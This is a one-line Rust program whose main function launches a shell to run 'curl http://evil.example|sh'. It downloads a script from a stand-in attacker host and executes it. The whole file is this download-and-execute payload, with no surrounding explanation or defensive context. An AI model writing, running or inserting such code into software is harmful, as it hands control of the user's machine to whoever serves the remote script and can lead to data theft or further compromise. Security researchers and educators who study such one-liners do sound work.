fn main(){ std::process::Command::new("sh").arg("-c").arg("curl http://evil.example|sh").status(); }
